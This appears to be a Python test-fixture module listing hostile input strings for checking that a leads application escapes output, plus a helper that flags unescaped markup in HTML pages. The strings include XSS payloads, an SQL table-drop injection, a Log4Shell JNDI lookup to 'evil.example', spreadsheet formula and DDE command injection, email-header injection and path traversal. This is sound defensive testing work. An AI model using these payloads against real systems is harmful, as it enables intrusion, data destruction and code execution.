"""Texts that browsers, spreadsheets, terminals, mail programs or template engines would interpret."""

MALICIOUS_TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=\"alert(1)\" x='",
    "image": "<img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt;&amp;&#x3C;",
    "sql": "'; DROP TABLE leads_lead; --",
    "template": "{{ 7*7 }}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s %(name)s {0} {organization} $1 \\1",
    "log4shell": "${jndi:ldap://evil.example/a}",
    "formula": "=HYPERLINK(\"http://evil.example\",\"open\")",
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(A1:A9)\t",
    "header": "Ada\r\nBcc: all@evil.example\r\n\r\n<b>body</b>",
    "encoded word": "=?utf-8?q?Invoice_=E2=80=AE_overdue=0D=0A_click_http://evil.example?=",
    "calendar": "Ada\nEND:VEVENT\nATTENDEE:mailto:evil@evil.example",
    "calendar_parts": "a;b,c:d\\n\"e\"^'",
    "slack": "<!channel> <@U1> <http://evil.example|open> @here *bold* `code`",
    "ansi": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "controls": "a\x01\x08\x0b\x0c\x7f\x85b",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "lines": "a\u2028b\u2029c\rd",
    "arabic_hebrew": "مرحبا שלום",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🎉",
    "zero_width": "a\u200bb\u200dc\ufeffd\u00ade",
    "combining": "Z̸̨̛͉̈́a͠l̷go e\u0301 \u00e9 ﬁ Å",
    "homoglyph": "раураl.example",
    "noncharacters": "\ufffe\uffff\U0010ffff\ue000",
    "json": "\"}],\"a\":[{\\\"\u2028</script>",
    "paths": "../../etc/passwd\\..\\%00",
    "numbers": "1e400 NaN null true undefined",
}  # fmt: skip


# What an HTML page must not contain: parts of the texts above that a browser would interpret, or a rendered template.
ACTIVE_MARKUP = ["<script>alert", "<img src=x", '" onmouseover="alert', "<b>body</b>", "49{%"]


def active_markup_in(page: str) -> list[str]:
    """Return the parts of the texts that an HTML page contains unescaped."""
    return [markup for markup in ACTIVE_MARKUP if markup in page]
